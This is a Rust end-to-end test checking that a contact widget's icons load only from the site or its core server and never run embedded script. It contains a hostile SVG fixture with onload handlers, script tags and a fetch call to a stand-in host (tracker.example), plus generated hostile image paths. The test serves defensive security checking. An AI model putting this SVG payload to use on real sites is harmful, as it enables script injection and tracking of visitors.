//! Icons: whatever a core names as one, only the core itself is asked for it, and no script in it runs.

use anyhow::Result;
use e2e::{ConsoleNoise, Setup, report};
use serde_json::json;

use crate::hostile::generate::image_path;
use crate::hostile::offer::{PAGE, method, offer};
use crate::hostile::proxy::Proxy;
use crate::hostile::scripts::values;

/// Icon URLs: as many that the rules accept as can be tested quickly.
const COUNT: usize = 500;

/// An SVG that reports the visitor to another server, and changes the page, if a browser runs its script.
const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  width="32" height="32" onload="top.hijacked = 1">
  <script>top.hijacked = 2; fetch("http://tracker.example/script")</script>
  <script xlink:href="http://tracker.example/script.js"/>
  <style>@import url(http://tracker.example/style.css); rect { fill: url(http://tracker.example/fill.svg#a) }</style>
  <image href="http://tracker.example/pixel.gif" width="32" height="32"/>
  <use href="http://tracker.example/sprite.svg#a"/>
  <foreignObject width="32" height="32">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="http://tracker.example/frame"></iframe>
    <img xmlns="http://www.w3.org/1999/xhtml" src="http://tracker.example/img" onerror="top.hijacked = 3"/>
  </foreignObject>
  <rect width="32" height="32"/>
</svg>"#;

/// The URLs of the images and what else is in their places, or `null` as long as one may still load.
const ICONS: &str = "
    const root = document.querySelector('id-contact-initiator').shadowRoot;
    const images = [...root.querySelectorAll('img')];
    const others = root.querySelectorAll('svg, object, embed, iframe, script, link, [style]').length;
    const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
    return images.length && images.every((image) => image.complete)
        ? { others, places: [...images.map((image) => image.src), ...loaded].map((url) => new URL(url).origin) }
        : null;
";

#[derive(serde::Deserialize)]
struct Icons {
    others: u32,
    places: Vec<String>,
}

#[tokio::test]
async fn come_from_the_core_alone_and_are_only_pictures() -> Result<()> {
    let proxy = Proxy::start()?;
    Setup::page(PAGE)
        .behind_proxy(proxy.address())
        .run(async |bed| {
            bed.browser.allow_noise(ConsoleNoise::LoadFailed);
            bed.core.stub_response("/static/hostile.svg", "image/svg+xml", SVG);
            let paths = values(image_path(), COUNT).into_iter().filter(|path| path.len() < 1_000);
            let hostile: Vec<_> =
                ["/static/hostile.svg".to_owned(), format!("{}/static/hostile.svg", bed.core.url())]
                    .into_iter()
                    .chain(paths)
                    .enumerate()
                    .map(|(at, path)| json!({ "tag": at.to_string(), "name": "Hostile", "image_path": path }))
                    .collect();
            offer(bed, &hostile, &[method("chat", "Chat")]);
            proxy.forget();
            bed.open("/").await?.until_form().await?;

            let icons: Icons =
                e2e::until("every icon to have come, or not", async || bed.browser.eval(ICONS, vec![]).await)
                    .await?;
            assert_eq!(icons.others, 0, "something else than <img>");
            let [site, core] = [bed.page_url(""), bed.core.url()];
            let elsewhere: Vec<_> = icons.places.iter().filter(|it| **it != site && **it != core).collect();
            assert_eq!(elsewhere, [""; 0]);
            assert_eq!(proxy.places(), [""; 0], "somebody else was asked");
            let drawn = "const { naturalWidth } = document.querySelector('id-contact-initiator').shadowRoot\
                .querySelector('img'); return naturalWidth";
            assert_eq!(bed.browser.eval::<u32>(drawn, vec![]).await?, 32, "the hostile icon is a picture");
            assert_eq!(
                bed.browser.eval::<Option<u32>>("return window.hijacked", vec![]).await?,
                None,
                "a script ran"
            );
            for request in bed.core.requests().iter().filter(|it| it.path.contains("hostile.svg")) {
                assert_eq!(request.header("sec-fetch-dest").unwrap_or("image"), "image", "{}", request.path);
            }
            report::row(
                "Values given to the widget",
                &[("what", "image_path"), ("values", &hostile.len().to_string())],
            );
            Ok(())
        })
        .await;
    Ok(())
}
